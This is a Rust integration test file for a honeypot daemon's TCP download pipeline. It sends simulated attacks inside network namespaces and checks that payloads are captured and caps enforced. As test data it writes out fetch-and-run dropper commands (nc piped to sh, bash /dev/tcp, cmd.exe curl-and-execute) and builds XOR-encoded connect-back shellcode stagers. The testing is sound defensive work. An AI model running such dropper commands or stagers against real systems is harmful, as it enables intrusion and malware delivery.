//! Fetches without a download program: the raw TCP client against a plain TCP server (a
//! Python one-liner) and scripted hostile servers in the client namespace of a veth pair,
//! the client in the sensor namespace as the honeypot would run it; then the daemon attacked
//! with `nc` and `/dev/tcp` command lines, the files fetched from that TCP server and from
//! nginx. Needs root (network namespaces).

mod common;

use common::*;
use honeytrap::pipeline::download::{tcp, Context, Error, Fetched, Limits, Policy};
use std::io::{Read, Write};
use std::net::{IpAddr, Shutdown, SocketAddr, TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::{Duration, Instant};

const PYTHON: &str = "/usr/bin/python3";
const T: Duration = Duration::from_secs(20);
const ATTACK_PORT: u16 = 8081;

/// A plain TCP server: sends the file to every connection, then closes it; prints each
/// peer's address.
const TCP_SERVER: &str = r#"
import socket, sys, threading
host, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
data = open(path, 'rb').read()
s = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((host, port))
s.listen(16)
def serve(c, a):
    print('peer', a[0], flush=True)
    try:
        c.sendall(data)
    except OSError as e:
        print('send:', e, flush=True)
    c.close()
while True:
    c, a = s.accept()
    threading.Thread(target=serve, args=(c, a), daemon=True).start()
"#;

type Server = PeerServer;

/// The test's TCP server (Python) on `addr`, sending `data` to each peer, ready.
fn tcp_server(pair: &Pair, dir: &Path, name: &str, addr: SocketAddr, data: &[u8]) -> Server {
    let file = dir.join(format!("{name}.data"));
    std::fs::write(&file, data).unwrap();
    let script = dir.join("tcp_server.py");
    std::fs::write(&script, TCP_SERVER).unwrap();
    let (host, port) = (addr.ip().to_string(), addr.port().to_string());
    let args = [script.to_str().unwrap(), &host, &port, file.to_str().unwrap()];
    let mut s = PeerServer::spawn(pair, dir.join(format!("{name}.out")), PYTHON, &args);
    s.wait_ready(pair, addr);
    s
}

/// Pseudo-random bytes (xorshift), different per seed, starting with `\x7fELF`.
fn sample(seed: u64, len: usize) -> Vec<u8> {
    let mut x = seed | 1;
    let mut v: Vec<u8> = (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect();
    v[..4].copy_from_slice(b"\x7fELF");
    v
}

fn md5(data: &[u8]) -> String {
    honeytrap::attack::md5_hex(data)
}

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

fn sa(s: &str) -> SocketAddr {
    s.parse().unwrap()
}

/// One `tcp::fetch` in the sensor namespace from `local`, with a cap of `max_size` bytes and
/// a deadline `secs` away: the result and how long it took.
fn fetch(
    pair: &Pair,
    local: &str,
    server: SocketAddr,
    max_size: usize,
    secs: u64,
) -> (Result<Fetched, Error>, Duration) {
    let local = ip(local);
    in_netns(&pair.srv.0, move || {
        let policy = Policy { allow_local: false, sensor: vec![ip(SRV4), ip(SRV6)] };
        let limits = Limits { max_size, io_timeout: Duration::from_secs(5), ..Limits::default() };
        let start = Instant::now();
        let ctx = Context {
            local_ip: local,
            attacker: ip(CLI4),
            ftp_host: None,
            policy: &policy,
            limits: &limits,
            deadline: start + Duration::from_secs(secs),
        };
        (tcp::fetch(server, &[], false, &ctx), start.elapsed())
    })
}

/// [`fetch`] as a connect-back makes it: `first` sent after connecting, and for a `shell`
/// what arrived by the deadline kept.
fn fetch_back(
    pair: &Pair,
    server: SocketAddr,
    first: &[u8],
    shell: bool,
    secs: u64,
) -> (Result<Fetched, Error>, Duration) {
    let first = first.to_vec();
    in_netns(&pair.srv.0, move || {
        let policy = Policy { allow_local: false, sensor: vec![ip(SRV4), ip(SRV6)] };
        let limits = Limits { max_size: 1 << 20, io_timeout: Duration::from_secs(1), ..Limits::default() };
        let start = Instant::now();
        let ctx = Context {
            local_ip: ip(SRV4),
            attacker: ip(CLI4),
            ftp_host: None,
            policy: &policy,
            limits: &limits,
            deadline: start + Duration::from_secs(secs),
        };
        (tcp::fetch(server, &first, shell, &ctx), start.elapsed())
    })
}

/// A listener in the client namespace that, for each of `n` connections, reads `key_len`
/// bytes, sends `typed` and stays open and silent for `hold`; the keys it read come back.
fn shell_server(
    pair: &Pair,
    addr: SocketAddr,
    n: usize,
    key_len: usize,
    typed: &'static [u8],
    hold: Duration,
) -> std::thread::JoinHandle<Vec<Vec<u8>>> {
    let l = in_netns(&pair.cli.0, move || TcpListener::bind(addr).unwrap());
    std::thread::spawn(move || {
        let mut keys = Vec::new();
        for _ in 0..n {
            let (mut c, _) = l.accept().unwrap();
            c.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
            let mut key = vec![0u8; key_len];
            c.read_exact(&mut key).unwrap();
            keys.push(key);
            c.write_all(typed).unwrap();
            std::thread::sleep(hold);
        }
        keys
    })
}

#[test]
fn a_connect_back_sends_its_key_and_a_quiet_shell_keeps_what_was_typed() {
    if !root_or_skip("a_connect_back_sends_its_key_and_a_quiet_shell_keeps_what_was_typed", &["ip"]) {
        return;
    }
    let pair = Pair::new();
    let server = shell_server(&pair, sa("10.77.0.2:4460"), 2, 4, b"echo hi\n", Duration::from_secs(5));
    // A shell: after the deadline (3 s), what was typed is the result.
    let (r, took) = fetch_back(&pair, sa("10.77.0.2:4460"), b"\xde\xad\xbe\xef", true, 3);
    let got = r.unwrap();
    assert_eq!(got.data, b"echo hi\n");
    assert!(took >= Duration::from_millis(2900) && took < Duration::from_secs(5), "{took:?}");
    // A file transfer whose sender does not close: no file.
    let (r, _) = fetch_back(&pair, sa("10.77.0.2:4460"), b"\x01\x02\x03\x04", false, 3);
    assert!(matches!(r, Err(Error::Timeout)), "{r:?}");
    assert_eq!(server.join().unwrap(), [b"\xde\xad\xbe\xef".to_vec(), b"\x01\x02\x03\x04".to_vec()]);
}

#[test]
fn a_served_file_is_read_until_the_server_closes() {
    if !root_or_skip("a_served_file_is_read_until_the_server_closes", &["ip", PYTHON]) {
        return;
    }
    let pair = Pair::new();
    let dir = TempDir::new("download_tcp");
    // A second sensor address: the client must connect from the attacked one.
    run_ok("ip", &["-n", &pair.srv.0, "addr", "add", "10.77.0.3/24", "dev", "ht-s"]);
    let data = sample(1, 300_000);
    let v4 = tcp_server(&pair, dir.path(), "tcp4", sa("10.77.0.2:4444"), &data);
    let v6 = tcp_server(&pair, dir.path(), "tcp6", sa("[fd77::2]:4444"), &data);

    let (r, _) = fetch(&pair, "10.77.0.3", sa("10.77.0.2:4444"), 1 << 20, 20);
    let got = r.unwrap_or_else(|e| panic!("{e}: {}", v4.output()));
    assert_eq!((got.data.len(), md5(&got.data)), (data.len(), md5(&data)));
    assert_eq!((got.remote, got.uri.as_str()), (sa("10.77.0.2:4444"), "tcp://10.77.0.2:4444"));
    assert!(wait_until(Duration::from_secs(5), || v4.output().contains("peer 10.77.0.3\n")), "{}", v4.output());

    let (r, _) = fetch(&pair, SRV6, sa("[fd77::2]:4444"), 1 << 20, 20);
    let got = r.unwrap_or_else(|e| panic!("{e}: {}", v6.output()));
    assert_eq!((md5(&got.data), got.uri.as_str()), (md5(&data), "tcp://[fd77::2]:4444"));
}

#[test]
fn size_time_and_address_caps_hold() {
    if !root_or_skip("size_time_and_address_caps_hold", &["ip", PYTHON]) {
        return;
    }
    let pair = Pair::new();
    let dir = TempDir::new("download_tcp_caps");
    let big = sample(2, 300_000);
    let _big = tcp_server(&pair, dir.path(), "big", sa("10.77.0.2:4445"), &big);

    // More than the cap: abandoned.
    let (r, _) = fetch(&pair, SRV4, sa("10.77.0.2:4445"), 100_000, 20);
    assert!(matches!(r, Err(Error::TooLarge(100_000))), "{r:?}");

    // A server that sends a little and never closes: the deadline ends it, with no file.
    let hold = in_netns(&pair.cli.0, || TcpListener::bind("10.77.0.2:4446").unwrap());
    let holder = std::thread::spawn(move || {
        let (mut c, _) = hold.accept().unwrap();
        c.write_all(b"\x7fELF partial").unwrap();
        // Held open until the client gives up (bounded).
        c.set_read_timeout(Some(Duration::from_secs(15))).unwrap();
        let _ = c.read(&mut [0u8; 16]);
    });
    let (r, took) = fetch(&pair, SRV4, sa("10.77.0.2:4446"), 100_000, 2);
    assert!(matches!(r, Err(Error::Timeout)), "{r:?}");
    assert!(took >= Duration::from_millis(1900) && took < Duration::from_secs(6), "{took:?}");
    holder.join().unwrap();

    // Addresses the policy refuses: loopback, link-local, the sensor's own; nothing is sent.
    for bad in ["127.0.0.1:4445", "169.254.169.254:80", "10.77.0.1:4445", "[::1]:4445"] {
        let (r, took) = fetch(&pair, SRV4, sa(bad), 100_000, 5);
        assert!(matches!(&r, Err(Error::Refused(_))), "{bad}: {r:?}");
        assert!(took < Duration::from_secs(1), "{bad}: {took:?}");
    }

    // Nobody listening.
    let (r, _) = fetch(&pair, SRV4, sa("10.77.0.2:4447"), 100_000, 5);
    assert!(matches!(r, Err(Error::Connect(..))), "{r:?}");
}

/// The daemon (nfq, every download plugin, SaveFile, logJSON) in the sensor namespace; nginx
/// and the TCP servers in the client namespace.
struct Lab {
    pair: Pair,
    dir: TempDir,
    daemon: Running,
    _servers: Vec<Server>,
}

impl Lab {
    /// `EVENTS` in `extra` stands for the path of `events.json` in the lab.
    fn start(name: &str, www: &[(&str, &[u8])], tcp: &[(u16, &[u8])], extra: &str) -> Lab {
        let pair = Pair::new();
        let dir = TempDir::new(name);
        let extra = extra.replace("EVENTS", &dir.join("events.json").display().to_string());
        let extra = extra.as_str();
        for d in ["downloads", "www", "tmp"] {
            std::fs::create_dir_all(dir.join(d)).unwrap();
            std::fs::set_permissions(dir.join(d), std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        for (file, data) in www {
            std::fs::write(dir.join("www").join(file), data).unwrap();
            std::fs::set_permissions(dir.join("www").join(file), std::fs::Permissions::from_mode(0o644)).unwrap();
        }
        let d = dir.path().display().to_string();
        std::fs::write(
            dir.join("nginx.conf"),
            nginx_conf(dir.path(), "        listen 10.77.0.2:80;\n        root DIR/www;"),
        )
        .unwrap();
        let mut nginx =
            PeerServer::spawn(&pair, dir.join("nginx.out"), "nginx", &["-c", dir.join("nginx.conf").to_str().unwrap()]);
        nginx.wait_ready(&pair, sa("10.77.0.2:80"));
        let mut servers = vec![nginx];
        for (port, data) in tcp {
            let addr = SocketAddr::new(ip(CLI4), *port);
            servers.push(tcp_server(&pair, dir.path(), &format!("tcp{port}"), addr, data));
        }
        pair.queue_to_nfq();
        let conf = write_config(
            dir.path(),
            &format!(
                "monitor = \"nfq\"\n{extra}\n\
                 plugin-ftpDownload = \"\"\nplugin-tftpDownload = \"\"\nplugin-httpDownload = \"\"\n\
                 plugin-logJSON = {{ logfile = \"{d}/attackers.json\" }}\n\
                 plugin-SaveFile = {{ downloads_dir = \"{d}/downloads\" }}\n"
            ),
        );
        let mut cmd = pair.srv.command(BIN);
        cmd.args(["-C", conf.to_str().unwrap(), "-t", "5"]);
        let daemon = Running::start(Launch::Foreground, cmd, &dir.join("honeytrap.log"), &dir.join("honeytrap.pid"));
        Lab { pair, dir, daemon, _servers: servers }
    }

    fn log(&self) -> String {
        read(&self.dir.join("honeytrap.log"))
    }

    /// Sends `data` to the sensor from the attacker namespace and closes.
    fn attack(&self, data: &str) {
        self.attack_bytes(data.as_bytes());
    }

    fn attack_bytes(&self, data: &[u8]) {
        let to = SocketAddr::new(ip(SRV4), ATTACK_PORT);
        let data = data.to_vec();
        in_netns(&self.pair.cli.0, move || {
            let mut s = TcpStream::connect_timeout(&to, Duration::from_secs(3)).expect("connect");
            s.write_all(&data).unwrap();
            s.shutdown(Shutdown::Write).unwrap();
            s.set_read_timeout(Some(T)).unwrap();
            let _ = s.read_to_end(&mut Vec::new());
        });
    }

    fn has_download(&self, name: &str, data: &[u8]) -> bool {
        std::fs::read(self.dir.join("downloads").join(format!("{}-{name}", md5(data)))).is_ok_and(|d| d == data)
    }

    fn expect_download(&self, name: &str, data: &[u8]) {
        let ok = wait_until(T, || self.has_download(name, data));
        let listing: Vec<String> = std::fs::read_dir(self.dir.join("downloads"))
            .map(|r| r.filter_map(|e| Some(e.ok()?.file_name().to_string_lossy().into_owned())).collect())
            .unwrap_or_default();
        assert!(ok, "no {name} in {listing:?}; log:\n{}", self.log());
    }

    fn expect_log(&self, needle: &str) {
        assert!(wait_for_text(&self.dir.join("honeytrap.log"), needle, T), "{needle:?} not in\n{}", self.log());
    }
}

impl Drop for Lab {
    fn drop(&mut self) {
        let _ = self.daemon.stop(T);
    }
}

fn lab_tools(name: &str) -> bool {
    root_or_skip(name, &["ip", "iptables", "ip6tables", "nginx", PYTHON])
}

#[test]
fn nc_and_dev_tcp_attacks_land_in_downloads_dir() {
    if !lab_tools("nc_and_dev_tcp_attacks_land_in_downloads_dir") {
        return;
    }
    let (a, b, c, d) = (sample(11, 40_000), sample(12, 5_000), sample(13, 70_000), sample(14, 3_000));
    let lab = Lab::start("download_tcp_lab", &[("c.bin", &c), ("d.sh", &d)], &[(4444, &a), (4445, &b)], "");

    // nc into a file, as IoT droppers write it.
    lab.attack(&format!("cd /tmp; busybox nc -w 5 {CLI4} 4444 > .a; chmod +x .a; ./.a\n"));
    lab.expect_download(".a", &a);
    lab.expect_log(&format!("TCP download - .a (40000 bytes from tcp://{CLI4}:4444) attached to attack record."));
    // nc into a shell: the file is named after the server.
    lab.attack(&format!("nc {CLI4} 4445 | sh\n"));
    lab.expect_download("10.77.0.2_4445", &b);
    // bash /dev/tcp with an HTTP request: fetched from nginx.
    lab.attack(&format!(
        "exec 3<>/dev/tcp/{CLI4}/80; echo -e \"GET /c.bin HTTP/1.0\\r\\nHost: {CLI4}\\r\\n\\r\\n\" >&3; \
         while read -r l; do [ \"$l\" = $'\\r' ] && break; done <&3; cat <&3 > /tmp/cc; chmod +x /tmp/cc\n"
    ));
    lab.expect_download("cc", &c);
    // An HTTP request piped into nc.
    lab.attack(&format!("printf 'GET /d.sh HTTP/1.0\\r\\n\\r\\n' | nc {CLI4} 80 > d; sh d\n"));
    lab.expect_download("d", &d);

    let json = read(&lab.dir.join("attackers.json"));
    assert!(
        wait_until(T, || read(&lab.dir.join("attackers.json"))
            .contains(&format!("\"uri_0\": \"tcp:\\/\\/{CLI4}:4445\""))),
        "{json}"
    );
    let json = read(&lab.dir.join("attackers.json"));
    assert!(json.contains("\"type_0\": \"tcp\"") && json.contains(&format!("\"md5_hash\": \"{}\"", md5(&a))), "{json}");
}

#[test]
fn tcp_caps_in_the_daemon() {
    if !lab_tools("tcp_caps_in_the_daemon") {
        return;
    }
    let big = sample(21, 300_000);
    let lab = Lab::start(
        "download_tcp_lab_caps",
        &[],
        &[(4444, &big)],
        "download_max_size = \"100000\"\ndownload_timeout = \"3\"",
    );
    // More than download_max_size.
    lab.attack(&format!("nc {CLI4} 4444 > big; ./big\n"));
    lab.expect_log(&format!("TCP download error - tcp://{CLI4}:4444: file larger than 100000 bytes."));
    // Loopback: never connected to.
    lab.attack("nc 127.0.0.1 4444 > lo; ./lo\n");
    lab.expect_log("TCP download error - tcp://127.0.0.1:4444: refused: 127.0.0.1 is a loopback address.");
    // A server that never closes: download_timeout ends it.
    let hold = in_netns(&lab.pair.cli.0, || TcpListener::bind("10.77.0.2:4446").unwrap());
    let holder = std::thread::spawn(move || {
        let (mut c, _) = hold.accept().unwrap();
        c.write_all(b"\x7fELF partial").unwrap();
        c.set_read_timeout(Some(Duration::from_secs(15))).unwrap();
        let _ = c.read(&mut [0u8; 16]);
    });
    let t0 = Instant::now();
    lab.attack(&format!("nc {CLI4} 4446 > slow; ./slow\n"));
    lab.expect_log(&format!("TCP download error - tcp://{CLI4}:4446: timeout."));
    assert!(t0.elapsed() < Duration::from_secs(12), "{:?}", t0.elapsed());
    holder.join().unwrap();
    assert!(!std::fs::read_dir(lab.dir.join("downloads")).unwrap().any(|_| true));
}

/// `inner` behind a jmp/call/pop byte-XOR decoder with `key`.
fn xor_encoded(inner: &[u8], key: u8) -> Vec<u8> {
    let mut out = b"\x90\x90\x90\x90\xeb\x10\x5a\x4a\x33\xc9\x66\xb9".to_vec();
    out.extend((inner.len() as u16).to_le_bytes());
    out.extend([0x80, 0x34, 0x0a, key, 0xe2, 0xfa, 0xeb, 0x05, 0xe8, 0xeb, 0xff, 0xff, 0xff]);
    out.extend(inner.iter().map(|b| b ^ key));
    out
}

/// Windows-style shellcode that connects to `to` (a pushed sockaddr_in, the connect API
/// hash), followed by `tail`.
fn win_connect(to: SocketAddr, tail: &[u8]) -> Vec<u8> {
    let IpAddr::V4(v4) = to.ip() else { panic!("IPv4 only") };
    let mut out = b"\xfc\xe8\x82\x00\x00\x00\x60\x89\xe5\x68".to_vec();
    out.extend(v4.octets());
    out.extend(b"\x68\x02\x00");
    out.extend(to.port().to_be_bytes());
    out.extend(b"\x89\xe6\x6a\x10\x56\x57\x68\x99\xa5\x74\x61\xff\xd5");
    out.extend(tail);
    out
}

#[test]
fn shellcode_connect_backs_and_urls_are_followed() {
    if !lab_tools("shellcode_connect_backs_and_urls_are_followed") {
        return;
    }
    let (a, f, u, v) = (sample(31, 20_000), sample(32, 60_000), sample(33, 9_000), sample(34, 7_000));
    let sigs = concat!(env!("CARGO_MANIFEST_DIR"), "/contrib/shellcode-signatures.sc");
    let extra = format!(
        "download_timeout = \"4\"\n\
         plugin-cspm = {{\n shellcode_sigfile = \"{sigs}\"\n follow_connectback = \"yes\"\n}}\n\
         plugin-logEvents = {{ logfile = \"EVENTS\" }}"
    );
    let lab = Lab::start("download_tcp_lab_cspm", &[("u.exe", &u), ("v.exe", &v)], &[(4444, &a), (4450, &f)], &extra);

    // An encoded stager: the stage is what the connect-back reads.
    let stager = win_connect(sa("10.77.0.2:4450"), b"\x6a\x00\x6a\x04\x56\x57\x68\x02\xd9\xc8\x5f\xff\xd5");
    lab.attack_bytes(&xor_encoded(&stager, 0x99));
    lab.expect_log("CSPM - Shellcode recognised by connectbackfiletransfer::win_stager_recv, connects back to 10.77.0.2:4450, after xor::jmp_call_pop_byte (key 0x99).");
    lab.expect_download("connectbackfiletransfer-10.77.0.2-4450", &f);
    let events = lab.dir.join("events.json");
    assert!(
        wait_until(T, || read(&events).contains("\"eventid\":\"honeytrap.session.shellcode\"")),
        "{}",
        read(&events)
    );
    let line = read(&events).lines().find(|l| l.contains("honeytrap.session.shellcode")).unwrap().to_string();
    for field in [
        "\"signature\":\"connectbackfiletransfer::win_stager_recv\"",
        "\"kind\":\"connectbackfiletransfer\"",
        "\"decoders\":[\"xor::jmp_call_pop_byte (key 0x99)\"]",
        "\"host\":\"10.77.0.2\"",
        "\"port\":4450",
    ] {
        assert!(line.contains(field), "{field} not in {line}");
    }

    // A connect-back shell that types a download command and stays open: what it typed is
    // kept when download_timeout ends, and the command's file is fetched.
    let typed = b"nc 10.77.0.2 4444 > .x; chmod +x .x; ./.x\n";
    let shell = shell_server(&lab.pair, sa("10.77.0.2:4451"), 1, 0, typed, Duration::from_secs(8));
    let code = win_connect(sa("10.77.0.2:4451"), b"\x68\x63\x6d\x64\x00\x89\xe3\x57\x57\x57");
    lab.attack_bytes(&xor_encoded(&code, 0x41));
    lab.expect_download("connectbackshell-10.77.0.2-4451", typed);
    lab.expect_download(".x", &a);
    shell.join().unwrap();

    // A URL in encoded shellcode is fetched.
    lab.attack_bytes(&xor_encoded(b"\x90\x90http://10.77.0.2/u.exe\x00\x90", 0x23));
    lab.expect_download("u.exe", &u);

    // So is what a command in encoded shellcode downloads.
    lab.attack_bytes(&xor_encoded(b"\x90cmd.exe /c curl -o w.exe http://10.77.0.2/v.exe & w.exe\x00", 0x5c));
    lab.expect_download("w.exe", &v);

    // A connect-back to loopback is refused by the download address policy.
    lab.attack_bytes(&win_connect(sa("127.0.0.1:4450"), b"\x68\x02\xd9\xc8\x5f\xff\xd5"));
    lab.expect_log("TCP download error - tcp://127.0.0.1:4450: refused: 127.0.0.1 is a loopback address.");
}
